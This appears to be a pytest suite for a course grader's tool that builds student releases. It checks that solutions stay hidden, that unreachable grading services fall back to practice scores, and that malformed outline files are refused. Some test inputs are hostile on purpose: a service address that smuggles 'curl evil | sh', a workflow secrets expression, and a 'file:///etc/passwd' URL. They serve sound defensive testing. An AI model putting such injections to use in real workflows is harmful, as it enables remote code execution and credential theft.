"""The student release: everything a student needs, nothing of the solution."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys

import pytest

from grader.core import solution
from grader.core.lesson import Course
from grader.core.scope import reference_calls

from .support import ON_TOY, ROOT, TOY, TOY_BUGGY, python

#: The lessons of the project's course, as the course finds them (the release is made per lesson).
LESSONS = Course.at(ROOT).lessons


@pytest.fixture(scope="module")
def release(tmp_path_factory):
    """The toy lesson's release: how a release is made and works is the grader's, not a lesson's."""
    out = tmp_path_factory.mktemp("release") / "toy-exercises"
    done = python("release", str(out), *ON_TOY)
    assert done.returncode == 0, done.stderr
    return out


@pytest.fixture(scope="module")
def every_release(tmp_path_factory) -> dict:
    """The release of every lesson of the project's course: what is left out holds for each."""
    made = {}
    for lesson in LESSONS:
        out = tmp_path_factory.mktemp("release") / f"{lesson.name}-exercises"
        done = python("release", str(out), "--course", str(ROOT), "--lesson", lesson.name)
        assert done.returncode == 0, done.stderr
        made[lesson.name] = out
    return made


#: Where no service listens (the discard port of this machine): a course's service out of reach.
NOWHERE = "http://127.0.0.1:9"
#: What the release's check ends with when its checks ran here.
PRACTICE = "This is a practice score"
#: The note's line on layer_norm, whose checks run the student's own version of center_tokens.
HANGS = "  - layer_norm uses your center_tokens\n"


def run_in(folder, *args, env=None):
    """Run ``python ARGS`` in ``folder``, with no grading service named by the environment
    (and ``env`` added)."""
    clean = {k: v for k, v in os.environ.items() if k not in ("GRADER_SERVER", "GRADER_TOKEN")}
    return subprocess.run(
        [sys.executable, *args],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=600,
        env={**clean, **(env or {})},
    )


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A toy lesson's release whose instructor named a grading service (one that is out of reach)."""
    out = tmp_path_factory.mktemp("served") / "toy-exercises"
    done = python("release", str(out), *ON_TOY, "--server", NOWHERE)
    assert done.returncode == 0, done.stderr
    shutil.copy(TOY_BUGGY, out / "exercises" / TOY.filename)
    return out


@pytest.mark.parametrize("lesson", LESSONS, ids=lambda lesson: lesson.name)
def test_the_release_holds_no_line_of_the_solution(every_release, lesson):
    release = every_release[lesson.name]
    # a line the lesson's own published checks hold too (rope's spec.py: `return out`) is no secret
    published = [p for p in lesson.checks.glob("*.py") if p.name not in ("diagnoses.py", "pictures.py")]
    shared = {line.strip() for p in published for line in p.read_text().splitlines()}
    secret = set(solution.solution_lines(lesson.solution.read_text())) - shared
    assert len(secret) > 15
    for file in (p for p in release.rglob("*") if p.is_file()):
        lines = {line.strip() for line in file.read_text(errors="replace").splitlines()}
        assert not (secret & lines), f"{file.relative_to(release)} holds {sorted(secret & lines)}"


@pytest.mark.parametrize("lesson", LESSONS, ids=lambda lesson: lesson.name)
def test_the_release_holds_what_students_need_and_no_more(every_release, lesson):
    release = every_release[lesson.name]
    files = {p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()}
    checks = f"tests/checks/{lesson.name}"
    visible = sorted(f"{checks}/{p.name}" for p in lesson.checks.glob("test_*.py"))
    assert visible
    for needed in [
        f"exercises/{lesson.filename}",
        "README.md",
        ".github/workflows/classroom.yml",
        "pyproject.toml",
        "grader/__main__.py",
        *visible,
    ]:
        assert needed in files
    assert not any(
        f.startswith(("solutions/", f"{checks}/hidden/", "tests/catalog/", "examples/")) for f in files
    )
    # what needs the reference to mean anything stays with it: the known mistakes and the pictures
    kept_back = {
        f"{checks}/{name}" for name in ("diagnoses.py", "pictures.py") if (lesson.checks / name).is_file()
    }
    assert kept_back and not kept_back & files
    assert "reporters/github" not in files  # sanity: paths are relative
    workflow = (release / ".github/workflows/classroom.yml").read_text()
    assert "--github-summary --github-output" in workflow and "--fail-under" not in workflow


def test_public_checks_fail_on_the_stubs_and_pass_with_the_reference(release, tmp_path):
    copy = tmp_path / "student"
    shutil.copytree(release, copy)
    stubs = run_in(copy, "-m", "grader", "check")
    assert stubs.returncode == 1 and "not written yet" in stubs.stdout
    # checked here, with no reference: a practice score, and the exercise whose score hangs on others
    assert PRACTICE in stubs.stdout and stubs.stdout.endswith(HANGS)
    assert "grading service" not in stubs.stdout + stubs.stderr  # the release names none
    assert run_in(copy, "-m", "pytest", "-q", "-p", "no:cacheprovider").returncode == 1
    shutil.copy(TOY.solution, copy / "exercises" / TOY.filename)
    done = run_in(copy, "-m", "grader", "check")
    assert done.returncode == 0, done.stdout[-2000:]
    assert "Every check passes" in done.stdout and PRACTICE in done.stdout
    tests = run_in(copy, "-m", "pytest", "-q", "-p", "no:cacheprovider")
    assert tests.returncode == 0, tests.stdout[-2000:]


def test_release_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "x").write_text("keep me")
    done = python("release", str(tmp_path), *ON_TOY)
    assert done.returncode == 2 and "not empty" in done.stderr


def test_the_release_lists_which_exercises_each_ones_checks_call(release):
    told = json.loads((release / "tests/checks/toy/lesson.json").read_text())
    calls = reference_calls(TOY.solution.read_text(), TOY.exercises)
    assert told["depends"] == {
        name: sorted(calls[name], key=TOY.exercises.index) for name in calls if calls[name]
    }
    assert told["depends"] == {"layer_norm": ["center_tokens"]}
    assert "server" not in told


def test_only_a_checked_exercise_is_said_to_hang_on_others(release):
    alone = run_in(release, "-m", "grader", "check", "--only", "center_tokens")
    assert PRACTICE in alone.stdout and "layer_norm uses" not in alone.stdout


def test_the_release_names_its_service_and_without_a_token_says_how_to_get_one(served):
    told = json.loads((served / "tests/checks/toy/lesson.json").read_text())
    assert told["server"] == NOWHERE
    assert (
        NOWHERE in (served / "README.md").read_text() and "GRADER_TOKEN" in (served / "README.md").read_text()
    )
    done = run_in(served, "-m", "grader", "check")
    assert done.returncode == 1, done.stderr
    assert "no token was given: set $GRADER_TOKEN to the token your instructor handed out" in done.stderr
    assert "checking here instead, for a practice score" in done.stderr
    assert PRACTICE in done.stdout and f"grading service, {NOWHERE}:" in done.stdout
    assert done.stdout.endswith(HANGS) and "Total                5/12" in done.stdout
    assert "Traceback" not in done.stdout + done.stderr


def test_with_a_token_and_the_service_out_of_reach_the_release_checks_here(served):
    done = run_in(served, "-m", "grader", "check", env={"GRADER_TOKEN": "tok-123"})
    assert done.returncode == 1, done.stderr
    assert f"could not reach the grading service at {NOWHERE}" in done.stderr
    assert "checking here instead, for a practice score" in done.stderr
    assert PRACTICE in done.stdout and done.stdout.endswith(HANGS)
    assert "run check again once it can be reached" in done.stdout
    assert "tok-123" not in done.stdout + done.stderr


def test_a_service_asked_for_by_name_is_never_replaced_by_a_practice_score(served):
    done = run_in(served, "-m", "grader", "check", "--server", NOWHERE, env={"GRADER_TOKEN": "tok-123"})
    assert done.returncode == 2 and "could not reach the grading service" in done.stderr
    assert PRACTICE not in done.stdout


@pytest.mark.parametrize(
    "address",
    [
        'https://x.edu/"; curl evil | sh; "',
        "https://x.edu/${{ secrets.GRADER_TOKEN }}",
        "ftp://x.edu",
        "https://",
        "https://a b",
    ],
)
def test_release_refuses_a_service_address_that_could_break_out_of_the_workflow(tmp_path, address):
    done = python("release", str(tmp_path / "out"), *ON_TOY, "--server", address)
    assert done.returncode == 2 and "expected the grading service's address" in done.stderr
    assert not (tmp_path / "out").exists()


def test_a_release_whose_outline_names_a_bad_service_says_so(served, tmp_path):
    copy = tmp_path / "student"
    shutil.copytree(served, copy)
    outline = copy / "tests/checks/toy/lesson.json"
    told = json.loads(outline.read_text())
    outline.write_text(json.dumps({**told, "server": "file:///etc/passwd"}))
    done = run_in(copy, "-m", "grader", "check")
    assert done.returncode == 2 and "lesson.json cannot be read" in done.stderr
    assert "Traceback" not in done.stderr


def test_grade_in_the_course_never_goes_to_a_service_left_in_the_environment():
    env = {**os.environ, "GRADER_SERVER": NOWHERE, "GRADER_TOKEN": "tok-123"}
    done = python("grade", *ON_TOY, "--only", "center_tokens", "--format", "json", str(TOY.solution), env=env)
    assert done.returncode == 0, done.stderr
    assert "grading service" not in done.stderr  # graded here: the service named is out of reach
    assert json.loads(done.stdout)["score"] == json.loads(done.stdout)["max_score"]


@pytest.mark.parametrize(
    "spoil",
    [
        pytest.param(lambda outline: (outline.unlink(), os.mkfifo(outline)), id="fifo"),
        pytest.param(lambda outline: os.truncate(outline, 64 << 30), id="sparse-64-GiB"),
        pytest.param(lambda outline: outline.write_text("[" * 100_000 + "]" * 100_000), id="nested-deep"),
    ],
)
def test_a_release_whose_outline_is_no_plain_small_file_says_so_at_once(served, tmp_path, spoil):
    """The outline is read as any file a student's copy holds may be: a FIFO is not waited on, a
    huge file is not read past its limit, JSON nested past Python's limit is refused in words.
    (Each held before the outline's reader was bounded too: these keep it so.)"""
    copy = tmp_path / "student"
    shutil.copytree(served, copy)
    spoil(copy / "tests/checks/toy/lesson.json")
    done = run_in(copy, "-m", "grader", "check")
    assert done.returncode == 2, done.stderr
    assert "lesson.json" in done.stderr and "Traceback" not in done.stderr
